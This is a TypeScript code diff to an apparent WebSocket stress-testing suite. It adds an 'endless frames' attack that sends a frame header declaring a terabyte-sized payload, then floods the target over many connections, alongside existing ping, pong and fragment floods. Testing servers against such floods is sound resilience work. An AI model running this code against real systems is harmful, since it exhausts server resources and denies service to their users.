@@ -26,6 +26,7 @@ export const frameAttacks: readonly Attack[] = [
   flooding('pongs', repeated(frame(PONG, SOME_BYTES), FRAMES)),
   flooding('pings', repeated(frame(PING, SOME_BYTES), FRAMES)),
   flooding('empty fragments', repeated(fragments, FRAMES / FRAGMENTS)),
+  { name: 'endless-frames', title: 'endless frames', run: sendEndlessly },
 ];
 
 function flooding(title: string, frames: Buffer): Attack {
@@ -40,6 +41,24 @@ async function send(target: Target, signal: AbortSignal, frames: Buffer) {
     counter.add('connections');
     if (attacker % 2 === 0) client.send(joinFrame(target, attacker));
     counter.add('frames sent', FRAMES * (await client.flood(frames, signal)));
+  });
+  return counter.gains;
+}
+
+/** The header of a text frame of a terabyte, with a mask of zeros. */
+const ENDLESS = Buffer.from([0x81, 0xff, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
+
+const MEGABYTE = Buffer.alloc(1_000_000, ' ');
+
+async function sendEndlessly(target: Target, signal: AbortSignal) {
+  const counter = new Counter('connections', 'MB sent');
+  await keepAttacking(CONNECTIONS, signal, async (attacker) => {
+    const client = await RawClient.open(target, signal);
+    if (!client || !(await client.upgrade())) return client?.drop();
+    counter.add('connections');
+    if (attacker % 2 === 0) client.send(joinFrame(target, attacker));
+    client.send(ENDLESS);
+    counter.add('MB sent', await client.flood(MEGABYTE, signal));
   });
   return counter.gains;
 }
